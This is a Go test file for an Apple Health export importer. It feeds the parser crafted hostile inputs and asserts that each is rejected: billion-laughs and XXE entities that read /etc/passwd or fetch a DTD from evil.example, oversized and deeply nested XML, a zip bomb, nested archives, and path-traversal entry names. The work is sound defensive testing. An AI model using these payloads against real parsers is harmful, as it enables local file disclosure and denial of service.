package applehealth

import (
	"archive/zip"
	"bytes"
	"compress/flate"
	"context"
	"encoding/xml"
	"errors"
	"fmt"
	"io"
	"runtime"
	"strings"
	"testing"

	"github.com/phr-project/phr/internal/racedetect"
	"github.com/phr-project/phr/pkg/importers"
	"github.com/phr-project/phr/pkg/importers/importertest"
	"github.com/phr-project/phr/pkg/record"
)

const rec = `<Record type="HKQuantityTypeIdentifierHeartRate" sourceName="Watch" unit="count/min" startDate="2020-01-01 10:00:00 +0000" endDate="2020-01-01 10:00:00 +0000" value="72"/>`

// TestXMLLimits proves the XML limits with crafted exports: each fails the
// file with a *ParseError wrapping the sentinel, naming the line and the
// element (and attribute), without quoting values.
func TestXMLLimits(t *testing.T) {
	const gib = 1 << 30
	attrs := func(n int) string {
		var b strings.Builder
		for i := range n {
			fmt.Fprintf(&b, ` a%d="1"`, i)
		}
		return b.String()
	}
	cases := []struct {
		name    string
		in      []importertest.Part
		is      error
		line    int
		path    string
		msg     string
		maxRead int64 // 0: any
		records int   // imported before the failure
	}{
		{"billion laughs", []importertest.Part{importertest.Once(string(importertest.ReadFile(t, "testdata/entity.xml")))}, ErrEntityDeclaration, 6, "", "entity declarations", 0, 0},
		{"external entity", []importertest.Part{importertest.Once("<?xml version=\"1.0\"?>\n<!DOCTYPE HealthData [\n<!ENTITY xxe SYSTEM \"file:///etc/passwd\">\n]>\n<HealthData><Record value=\"&xxe;\"/></HealthData>")}, ErrEntityDeclaration, 4, "", "entity declarations", 0, 0},
		{"parameter entity", []importertest.Part{importertest.Once("<!DOCTYPE HealthData [\n<!ENTITY % pe SYSTEM \"http://evil.example/x.dtd\">\n%pe;\n]>\n<HealthData/>")}, ErrEntityDeclaration, 4, "", "entity declarations", 0, 0},
		{"parameter entity reference", []importertest.Part{importertest.Once("<!DOCTYPE HealthData [\n<!ELEMENT HealthData ANY>\n%pe;\n]>\n<HealthData/>")}, ErrExternalDTD, 4, "", "parameter entity reference", 0, 0},
		{"external DTD (SYSTEM)", []importertest.Part{importertest.Once("<?xml version=\"1.0\"?>\n<!DOCTYPE HealthData SYSTEM \"file:///etc/passwd\">\n<HealthData/>")}, ErrExternalDTD, 2, "", "external DTD (SYSTEM)", 0, 0},
		{"external DTD (PUBLIC)", []importertest.Part{importertest.Once("<!DOCTYPE HealthData PUBLIC \"-//x//y\" \"http://evil.example/x.dtd\" [<!ELEMENT HealthData ANY>]>\n<HealthData/>")}, ErrExternalDTD, 1, "", "external DTD (PUBLIC)", 0, 0},
		{"huge attribute value", []importertest.Part{importertest.Once("<HealthData>\n" + rec + "\n<Record type=\"X\" value=\""), importertest.Fill("7", MaxAttrBytes+1), importertest.Once("\"/>\n</HealthData>")}, ErrTooLarge, 3, "HealthData/Record/@value", "attribute value over 64 KiB", 0, 1},
		{"too many attributes", []importertest.Part{importertest.Once("<HealthData>\n<Record" + attrs(MaxAttributes+1) + "/>\n</HealthData>")}, ErrTooLarge, 2, "HealthData/Record", "more than 128 attributes", 0, 0},
		{"long element name", []importertest.Part{importertest.Once("<HealthData>\n<" + strings.Repeat("R", MaxNameBytes+1) + "/>\n</HealthData>")}, ErrTooLarge, 2, "HealthData", "element name over 256", 0, 0},
		{"long attribute name", []importertest.Part{importertest.Once("<HealthData>\n<Record " + strings.Repeat("a", MaxNameBytes+1) + "=\"1\"/>\n</HealthData>")}, ErrTooLarge, 2, "HealthData/Record", "attribute name over 256", 0, 0},
		{"deep nesting", []importertest.Part{importertest.Once("<HealthData>\n<Workout>"), importertest.Fill("<a>", 3*MaxDepth)}, ErrTooLarge, 2, "HealthData/Workout/a/...251 more.../a/a", "deeper than 256", 0, 0},
		{"2 GiB attribute", []importertest.Part{importertest.Once("<HealthData>\n<Record value=\""), importertest.Fill("1", 2*gib)}, ErrTooLarge, 2, "HealthData", "token is longer", MaxTokenBytes + 256<<10, 0},
		{"2 GiB text", []importertest.Part{importertest.Once("<HealthData>\n" + rec + "\n<Record>"), importertest.Fill("x", 2*gib)}, ErrTooLarge, 3, "HealthData/Record", "token is longer", MaxTokenBytes + 256<<10, 1},
		{"2 GiB comment", []importertest.Part{importertest.Once("<HealthData>\n<!--"), importertest.Fill("-x", 2*gib)}, ErrTooLarge, 2, "HealthData", "token is longer", MaxTokenBytes + 256<<10, 0},
		{"2 GiB DOCTYPE", []importertest.Part{importertest.Once("<!DOCTYPE HealthData [\n"), importertest.Fill("<!ELEMENT a ANY>\n", 2*gib)}, ErrTooLarge, 0, "", "token is longer", MaxTokenBytes + 256<<10, 0},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			r := importertest.Lazy(c.in...)
			s := &importertest.Sink{}
			err := New().Import(context.Background(), &importers.Input{Name: "export.xml", R: r, Size: -1}, s)
			var pe *importers.ParseError
			if !errors.As(err, &pe) || !errors.Is(err, c.is) {
				t.Fatalf("err = %v, want a *ParseError wrapping %v", err, c.is)
			}
			if pe.File != "export.xml" || (c.line > 0 && pe.Line != c.line) || pe.Path != c.path || !strings.Contains(err.Error(), c.msg) {
				t.Errorf("error %q at line %d path %q, want line %d path %q and %q", err, pe.Line, pe.Path, c.line, c.path, c.msg)
			}
			if strings.Contains(err.Error(), "777") || strings.Contains(err.Error(), "passwd") || strings.Contains(err.Error(), "evil") {
				t.Errorf("error %q quotes the file", err)
			}
			if c.maxRead > 0 && r.Consumed() > c.maxRead {
				t.Errorf("read %d KiB before failing, want at most %d KiB", r.Consumed()>>10, c.maxRead>>10)
			}
			if len(s.Records) != c.records {
				t.Errorf("%d records, want %d", len(s.Records), c.records)
			}
		})
	}
	// At the limits, and a quoted % in the DTD, are fine.
	ok := "<!DOCTYPE HealthData [\n<!ATTLIST HealthData locale CDATA \"100%x\">\n]>\n<HealthData>\n" +
		"<Record type=\"HKQuantityTypeIdentifierHeartRate\" sourceName=\"" + strings.Repeat("W", MaxAttrBytes) + "\"" + attrs(MaxAttributes-6) +
		" unit=\"count/min\" startDate=\"2020-01-01 10:00:00 +0000\" endDate=\"2020-01-01 10:00:00 +0000\" value=\"72\"/>\n" +
		strings.Repeat("<Workout>", MaxDepth-1) + strings.Repeat("</Workout>", MaxDepth-1) + "\n</HealthData>"
	if s, err := importBytes(t, "export.xml", []byte(ok), nil); err != nil || len(s.Records) != 1 {
		t.Errorf("at the limits: %v, %d records", err, len(s.Records))
	}
}

// TestItemTooLarge: an item whose kept children pass MaxItemBytes fails
// alone, with its line; the items around it are imported.
func TestItemTooLarge(t *testing.T) {
	stat := `<WorkoutStatistics type="HKQuantityTypeIdentifierHeartRate" sum="` + strings.Repeat("1", 60<<10) + `"/>` + "\n"
	in := "<HealthData>\n" + rec + "\n" +
		`<Workout workoutActivityType="HKWorkoutActivityTypeRunning" duration="30" durationUnit="min" startDate="2020-01-01 10:00:00 +0000" endDate="2020-01-01 10:30:00 +0000">` + "\n" +
		strings.Repeat(stat, 100) + "</Workout>\n" + rec + "\n</HealthData>\n"
	s, err := importBytes(t, "export.xml", []byte(in), nil)
	if err != nil {
		t.Fatal(err)
	}
	if len(s.Fails) != 1 || !errors.Is(s.Fails[0], ErrTooLarge) || s.Fails[0].Line != 3 || s.Fails[0].Path != "Workout" || !strings.Contains(s.Fails[0].Error(), "over 4 MiB") {
		t.Errorf("fails %v", s.Fails)
	}
	if len(s.Records) != 2 {
		t.Errorf("%d records, want the two around the workout", len(s.Records))
	}
}

// TestHeldBudgets: blood pressure samples held for pairing, and daily
// aggregates, stop growing at their byte budgets however large the
// attributes (each up to MaxAttrBytes).
func TestHeldBudgets(t *testing.T) {
	if testing.Short() || racedetect.Enabled {
		t.Skip("moves 160 MiB of attributes")
	}
	big := strings.Repeat("s", 60<<10)
	attr := func(k, v string) xml.Attr { return xml.Attr{Name: xml.Name{Local: k}, Value: v} }
	p := &parser{file: "export.xml", sink: &importertest.Sink{}}
	var b bpMatcher
	held := 0
	for i := range maxHeldBPBytes / len(big) * 5 / 4 {
		n := &node{name: "Record", attrs: []xml.Attr{attr("type", hkSystolic), attr("sourceName", fmt.Sprint(i)+big), attr("startDate", "2020-01-01 10:00:00 +0000"), attr("value", "120")}}
		if b.topLevel(p, n, i+1) {
			held++
		}
		b.member(p, &node{name: "Record", attrs: []xml.Attr{attr("type", hkDiastolic), attr("sourceName", fmt.Sprint(i)+big)}})
	}
	if b.bytes > maxHeldBPBytes || held == 0 || held > maxHeldBPBytes/len(big) {
		t.Errorf("held %d samples, %d MiB", held, b.bytes>>20)
	}

	var a aggregator
	spec := quantityTypes["HKQuantityTypeIdentifierHeartRate"]
	n := &node{name: "Record", attrs: []xml.Attr{attr("startDate", "2020-01-01 10:00:00 +0000"), attr("sourceName", "Watch")}}
	var err error
	i := 0
	for ; i < maxAggregateBytes/len(big)*5/4 && err == nil; i++ {
		err = a.add(p, "HKQuantityTypeIdentifierHeartRate", spec, n, "2020-01-01T10:00:00Z", record.DecimalQuantity{Unit: fmt.Sprint(i) + big}, 1, i+1)
	}
	var pe *importers.ParseError
	if !errors.As(err, &pe) || !errors.Is(err, ErrTooLarge) || pe.Line != i || pe.Path != "Record" || a.bytes > maxAggregateBytes+len(big)+16 {
		t.Errorf("after %d aggregates (%d MiB): %v", i, a.bytes>>20, err)
	}
}

// zipOf builds a zip archive of the given entries, deflated.
func zipOf(t testing.TB, entries ...[2]string) []byte {
	t.Helper()
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	for _, e := range entries {
		w, err := zw.Create(e[0])
		if err != nil {
			t.Fatal(err)
		}
		io.WriteString(w, e[1])
	}
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

// rawZip builds a zip with one entry whose header declares sizes of the
// caller's choosing around already deflated data.
func rawZip(t testing.TB, name string, deflated []byte, declared uint64) []byte {
	t.Helper()
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	w, err := zw.CreateRaw(&zip.FileHeader{Name: name, Method: zip.Deflate, CompressedSize64: uint64(len(deflated)), UncompressedSize64: declared})
	if err != nil {
		t.Fatal(err)
	}
	w.Write(deflated)
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

func deflate(t testing.TB, s string) []byte {
	var z bytes.Buffer
	w, _ := flate.NewWriter(&z, flate.BestCompression)
	io.WriteString(w, s)
	w.Close()
	return z.Bytes()
}

// TestZipLimits proves the zip limits with crafted archives.
func TestZipLimits(t *testing.T) {
	if testing.Short() || racedetect.Enabled {
		t.Skip("builds archives of 100,000 entries and a 64 MiB bomb")
	}
	export := string(importertest.ReadFile(t, dogsheep))
	bomb := "<HealthData>" + strings.Repeat(" ", 64<<20) + "</HealthData>"
	var many [][2]string
	many = append(many, [2]string{ZipExportPath, export})
	for i := range MaxZipEntries {
		many = append(many, [2]string{fmt.Sprintf("apple_health_export/e/%d", i), ""})
	}
	var longNames [][2]string
	longNames = append(longNames, [2]string{ZipExportPath, export})
	for i := range MaxZipDirectorySize/60000 + 10 {
		longNames = append(longNames, [2]string{fmt.Sprintf("apple_health_export/%d/", i) + strings.Repeat("n", 60000), ""})
	}
	cases := []struct {
		name string
		zip  []byte
		is   error
		file string
		msg  string
	}{
		{"zip bomb", zipOf(t, [2]string{ZipExportPath, bomb}), ErrTooLarge, "export.zip/" + ZipExportPath, "expands more than 200 times"},
		{"declared over MaxExportSize", rawZip(t, ZipExportPath, deflate(t, export), MaxExportSize+1), ErrTooLarge, "export.zip/" + ZipExportPath, "over 16 GiB"},
		{"more than declared", rawZip(t, ZipExportPath, deflate(t, export), 100), nil, "export.zip/" + ZipExportPath, "not a valid zip"},
		{"too many entries", zipOf(t, many[:MaxZipEntries+1]...), ErrTooLarge, "export.zip", "more than 100000 entries"},
		{"central directory too large", zipOf(t, longNames...), ErrTooLarge, "export.zip", "central directory is over 16 MiB"},
		{"zip inside the zip", zipOf(t, [2]string{"apple_health_export/export.zip", string(zipOf(t, [2]string{ZipExportPath, export}))}), ErrNestedZip, "export.zip", "inside the zip"},
		{"export.xml is a zip", zipOf(t, [2]string{ZipExportPath, string(zipOf(t, [2]string{ZipExportPath, export}))}), ErrNestedZip, "export.zip/" + ZipExportPath, "inside the zip"},
		{"only unsafe names", zipOf(t, [2]string{"/" + ZipExportPath, export}, [2]string{"apple_health_export/../../" + ZipExportPath, export}, [2]string{`C:\` + ZipExportPath, export}), ErrNoExport, "export.zip", "no apple_health_export/export.xml"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			var before, after runtime.MemStats
			runtime.ReadMemStats(&before)
			s, err := importBytes(t, "export.zip", c.zip, nil)
			runtime.ReadMemStats(&after)
			var pe *importers.ParseError
			if !errors.As(err, &pe) || c.is != nil && !errors.Is(err, c.is) {
				t.Fatalf("err = %v, want a *ParseError wrapping %v", err, c.is)
			}
			if pe.File != c.file || !strings.Contains(err.Error(), c.msg) {
				t.Errorf("error %q in %q, want %q in %q", err, pe.File, c.msg, c.file)
			}
			if len(s.Records) != 0 {
				t.Errorf("%d records", len(s.Records))
			}
			if alloc := after.TotalAlloc - before.TotalAlloc; alloc > uint64(4*len(c.zip))+64<<20 {
				t.Errorf("allocated %d MiB for a %d KiB zip", alloc>>20, len(c.zip)>>10)
			}
		})
	}
	// MaxZipEntries entries, and unsafe names beside the export, are read
	// (the unsafe ones ignored with a note).
	s, err := importBytes(t, "export.zip", zipOf(t, many[:MaxZipEntries]...), nil)
	if err != nil || len(s.Records) == 0 {
		t.Errorf("MaxZipEntries entries: %v", err)
	}
	unsafe := zipOf(t, [2]string{"/etc/export.xml", "x"}, [2]string{"../export.xml", "x"}, [2]string{ZipExportPath, export})
	s, err = importBytes(t, "export.zip", unsafe, nil)
	if err != nil || len(s.Records) == 0 || s.SkipCounts()[": 2 zip entries with unsafe names (absolute, or with ..) ignored"] != 1 {
		t.Errorf("unsafe names beside the export: %v, skips %v", err, s.SkipCounts())
	}
	// With GODEBUG=zipinsecurepath=0 archive/zip reports the unsafe names;
	// the result is the same.
	t.Setenv("GODEBUG", "zipinsecurepath=0")
	if s2, err := importBytes(t, "export.zip", unsafe, nil); err != nil || len(s2.Records) != len(s.Records) {
		t.Errorf("zipinsecurepath=0: %v", err)
	}
}

// TestZipRealisticRatio: a synthetic export, as repetitive as a real one
// of one watch and one phone, is well within MaxCompressionRatio.
func TestZipRealisticRatio(t *testing.T) {
	if testing.Short() || racedetect.Enabled {
		t.Skip("writes and imports a 4 MiB export")
	}
	var xmlBuf bytes.Buffer
	want, err := writeSynthetic(&xmlBuf, 4<<20)
	if err != nil {
		t.Fatal(err)
	}
	z := zipOf(t, [2]string{ZipExportPath, xmlBuf.String()})
	ratio := float64(xmlBuf.Len()) / float64(len(z))
	t.Logf("synthetic export: %d KiB, %d KiB zipped, ratio %.0f", xmlBuf.Len()>>10, len(z)>>10, ratio)
	if ratio > MaxCompressionRatio/2 {
		t.Errorf("ratio %.0f is close to the limit %d", ratio, MaxCompressionRatio)
	}
	s, err := importBytes(t, "export.zip", z, nil)
	if err != nil || len(s.Records) != want {
		t.Errorf("%d records, want %d: %v", len(s.Records), want, err)
	}
}
